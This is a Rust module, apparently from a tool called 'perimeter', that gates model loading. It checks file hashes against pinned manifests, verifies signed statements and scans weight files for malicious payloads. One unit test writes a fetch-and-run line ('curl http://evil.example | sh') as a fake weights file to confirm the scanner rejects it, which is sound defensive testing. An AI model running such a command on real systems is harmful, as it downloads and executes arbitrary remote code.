//! The load gate: a model's files are hashed and compared with their pins, and its weight files
//! are scanned for malicious payloads (pickle globals, template injection, structural tricks),
//! before any engine reads them. `VerifiedModel` can only be built here, and only when both
//! checks pass.

use std::collections::BTreeMap;
use std::fs::File;
use std::io::Read;
use std::path::{Path, PathBuf};

use perimeter_provenance::{Manifest, ManifestError, Mismatch, ModelEntry, ModelKind};
use sha2::{Digest, Sha256};

/// The manifest compiled into the binary: the pins travel with the code that trusts them.
const BUILTIN_MANIFEST: &str = include_str!("../../../models/manifest.toml");

/// The pinned models this build trusts.
pub fn builtin_manifest() -> Result<Manifest, ManifestError> {
    Manifest::parse(BUILTIN_MANIFEST)
}

/// The built-in manifest plus, when the configuration names one, the operator's own manifest
/// file (`[models] manifest`): the operator's models pass the same gate as the built-in ones.
pub fn manifest(extra: Option<&Path>) -> Result<Manifest, VerifyError> {
    let builtin = builtin_manifest()?;
    let Some(path) = extra else { return Ok(builtin) };
    let text = std::fs::read_to_string(path).map_err(|source| VerifyError::Io { path: path.to_path_buf(), source })?;
    let own = Manifest::parse(&text).map_err(|e| VerifyError::Signed(format!("{}: {e}", path.display())))?;
    Ok(builtin.merged(own)?)
}

/// Reads a signed statement (a DSSE envelope from `perimeter model sign`) and verifies it with
/// one of the trusted public keys. Returns the statement and the id of the key that signed it.
pub fn signed_statement(
    signature: &Path,
    trusted_keys: &[PathBuf],
) -> Result<(perimeter_provenance::signing::Statement, String), VerifyError> {
    use perimeter_provenance::signing::{Envelope, PublicKey};
    let read = |path: &Path| std::fs::read(path).map_err(|source| VerifyError::Io { path: path.to_path_buf(), source });
    let envelope = Envelope::from_json(&read(signature)?)
        .map_err(|e| VerifyError::Signed(format!("{}: {e}", signature.display())))?;
    let mut keys = Vec::new();
    for path in trusted_keys {
        let pem = String::from_utf8(read(path)?)
            .map_err(|_| VerifyError::Signed(format!("{}: not a PEM text file", path.display())))?;
        keys.push(PublicKey::from_spki_pem(&pem).map_err(|e| VerifyError::Signed(format!("{}: {e}", path.display())))?);
    }
    let verified = envelope.verify(&keys).map_err(|e| VerifyError::Signed(format!("{}: {e}", signature.display())))?;
    Ok((verified.statement().clone(), verified.keyid().to_string()))
}

/// [`verify`], and additionally the model's files must be vouched for by a signed statement of
/// the models directory (same paths, same digests). Used when `[models] signature` is set.
pub fn verify_signed(
    entry: &ModelEntry,
    models_dir: &Path,
    statement: &perimeter_provenance::signing::Statement,
) -> Result<VerifiedModel, VerifyError> {
    let missing = entry.not_covered_by(statement);
    if !missing.is_empty() {
        return Err(VerifyError::Signed(format!(
            "the signed statement does not vouch for {} (absent or with another digest)",
            missing.join(", ")
        )));
    }
    verify(entry, models_dir)
}

/// Proof that every file of a model matched its pinned size and SHA-256 when it was checked.
#[derive(Debug, Clone)]
pub struct VerifiedModel {
    name: String,
    kind: ModelKind,
    files: BTreeMap<String, PathBuf>,
    digests: BTreeMap<String, String>,
}

impl VerifiedModel {
    pub fn name(&self) -> &str {
        &self.name
    }

    pub fn kind(&self) -> ModelKind {
        self.kind
    }

    /// The path of the file with this role (`weights`, `tokenizer`, `config`, `adapter`).
    pub fn file(&self, role: &str) -> Option<&Path> {
        self.files.get(role).map(PathBuf::as_path)
    }

    /// SHA-256 of each verified file, by role.
    pub fn digests(&self) -> &BTreeMap<String, String> {
        &self.digests
    }
}

#[derive(Debug, thiserror::Error)]
pub enum VerifyError {
    #[error(transparent)]
    Manifest(#[from] ManifestError),
    #[error("{path} is missing: run `make models` (or scripts/fetch-models.py) to fetch the pinned models")]
    Missing { path: PathBuf },
    #[error("{path} could not be read: {source}")]
    Io {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{0}; the file is corrupt or was replaced: delete it and run `make models` to fetch it again")]
    Mismatch(Mismatch),
    /// The scanner found something unsafe, or could not understand the file (never loaded).
    #[error("{path} failed the model scan ({verdict}): {reason}")]
    Unsafe { path: PathBuf, verdict: &'static str, reason: String },
    /// The signed statement of the models directory is missing, invalid, not signed by a trusted
    /// key, or does not vouch for a file.
    #[error("signed manifest: {0}")]
    Signed(String),
}

/// Roles whose files are model payloads and go through the scanner (tokenizers and configs are
/// read as plain JSON by the engines).
const SCANNED_ROLES: &[&str] = &["weights", "adapter"];

/// Positioned reads over an open file, for the scanner (which reads headers, not whole files).
struct FileSource {
    file: File,
    len: u64,
}

impl perimeter_scan::Source for FileSource {
    fn len(&self) -> u64 {
        self.len
    }
    fn read_at(&self, offset: u64, buf: &mut [u8]) -> Result<usize, perimeter_scan::SourceError> {
        #[cfg(unix)]
        {
            use std::os::unix::fs::FileExt;
            self.file.read_at(buf, offset).map_err(|e| perimeter_scan::SourceError(e.kind().to_string()))
        }
        #[cfg(not(unix))]
        {
            use std::os::windows::fs::FileExt;
            self.file.seek_read(buf, offset).map_err(|e| perimeter_scan::SourceError(e.kind().to_string()))
        }
    }
}

/// Scans one model file.
pub fn scan_file(path: &Path) -> Result<perimeter_scan::Report, VerifyError> {
    let io = |source| VerifyError::Io { path: path.to_path_buf(), source };
    let file = File::open(path).map_err(io)?;
    let len = file.metadata().map_err(io)?.len();
    let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
    Ok(perimeter_scan::scan(&name, &FileSource { file, len }))
}

/// `Ok` only when the scan of `path` is clean.
pub fn require_clean(path: &Path) -> Result<(), VerifyError> {
    let report = scan_file(path)?;
    let verdict = match report.verdict {
        perimeter_scan::Verdict::Clean => return Ok(()),
        perimeter_scan::Verdict::Unsafe => "unsafe",
        perimeter_scan::Verdict::Unparseable => "could not be parsed",
    };
    let mut reasons: Vec<String> = report
        .findings
        .iter()
        .filter(|f| f.severity > perimeter_scan::Severity::Info)
        .map(|f| format!("{} at {}: {}", f.kind, f.location, f.detail))
        .collect();
    if let Some(e) = report.error {
        reasons.push(e);
    }
    Err(VerifyError::Unsafe { path: path.to_path_buf(), verdict, reason: reasons.join("; ") })
}

/// Hashes every file of `entry` under `models_dir` and compares it with the pin.
pub fn verify(entry: &ModelEntry, models_dir: &Path) -> Result<VerifiedModel, VerifyError> {
    let mut files = BTreeMap::new();
    let mut digests = BTreeMap::new();
    for f in &entry.files {
        let path = models_dir.join(&f.path);
        let (size, digest) = hash_file(&path)?;
        f.check(size, &digest).map_err(VerifyError::Mismatch)?;
        if SCANNED_ROLES.contains(&f.role.as_str()) {
            require_clean(&path)?;
        }
        files.insert(f.role.clone(), path);
        digests.insert(f.role.clone(), hex::encode(digest));
    }
    Ok(VerifiedModel { name: entry.name.clone(), kind: entry.kind, files, digests })
}

fn hash_file(path: &Path) -> Result<(u64, [u8; 32]), VerifyError> {
    let io = |source| VerifyError::Io { path: path.to_path_buf(), source };
    let mut file = match File::open(path) {
        Ok(f) => f,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Err(VerifyError::Missing { path: path.to_path_buf() })
        }
        Err(e) => return Err(io(e)),
    };
    let mut hasher = Sha256::new();
    let mut buf = vec![0u8; 1 << 20];
    let mut size = 0u64;
    loop {
        let n = file.read(&mut buf).map_err(io)?;
        if n == 0 {
            break;
        }
        size += n as u64;
        hasher.update(&buf[..n]);
    }
    Ok((size, hasher.finalize().into()))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn entry(sha: &str, size: u64) -> ModelEntry {
        let text = format!(
            "[[model]]\nname = \"t\"\nkind = \"embedding\"\npackage = \"p==1\"\n[[model.file]]\nrole = \"config\"\npath = \"t/w\"\nmember = \"w\"\nsha256 = \"{sha}\"\nsize = {size}\n"
        );
        Manifest::parse(&text).unwrap().models.remove(0)
    }

    #[test]
    fn a_pinned_weights_file_that_the_scanner_does_not_pass_is_refused() {
        use sha2::{Digest, Sha256};
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("t")).unwrap();
        // The digest matches the pin, but the bytes are not a model format the scanner knows:
        // never loaded. (A pinned file is only as good as what was pinned.)
        let bytes = b"#!/bin/sh\ncurl http://evil.example | sh\n";
        std::fs::write(dir.path().join("t/w"), bytes).unwrap();
        let sha = hex::encode(Sha256::digest(bytes));
        let text = format!(
            "[[model]]\nname = \"t\"\nkind = \"embedding\"\npackage = \"p==1\"\n[[model.file]]\nrole = \"weights\"\npath = \"t/w\"\nmember = \"w\"\nsha256 = \"{sha}\"\nsize = {}\n",
            bytes.len()
        );
        let entry = Manifest::parse(&text).unwrap().models.remove(0);
        let err = verify(&entry, dir.path()).unwrap_err();
        assert!(matches!(err, VerifyError::Unsafe { .. }), "{err}");
        assert!(err.to_string().contains("failed the model scan"), "{err}");
    }

    #[test]
    fn builtin_manifest_pins_both_default_models() {
        let m = builtin_manifest().unwrap();
        assert_eq!(m.model(crate::DEFAULT_EMBEDDING_MODEL).unwrap().kind, ModelKind::Embedding);
        assert_eq!(m.model(crate::DEFAULT_CHAT_MODEL).unwrap().kind, ModelKind::Generation);
    }

    #[test]
    fn verify_accepts_matching_and_rejects_missing_or_changed_files() {
        let dir = tempfile::tempdir().unwrap();
        // sha256("abc")
        let good = entry("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad", 3);
        assert!(matches!(verify(&good, dir.path()), Err(VerifyError::Missing { .. })));
        std::fs::create_dir_all(dir.path().join("t")).unwrap();
        std::fs::write(dir.path().join("t/w"), b"abc").unwrap();
        let v = verify(&good, dir.path()).unwrap();
        assert_eq!(v.file("config"), Some(dir.path().join("t/w").as_path()));
        std::fs::write(dir.path().join("t/w"), b"abd").unwrap();
        let err = verify(&good, dir.path()).unwrap_err().to_string();
        assert!(err.contains("SHA-256") && err.contains("make models"), "{err}");
        std::fs::write(dir.path().join("t/w"), b"abcd").unwrap();
        assert!(verify(&good, dir.path()).unwrap_err().to_string().contains("size is 4 bytes"));
    }
}
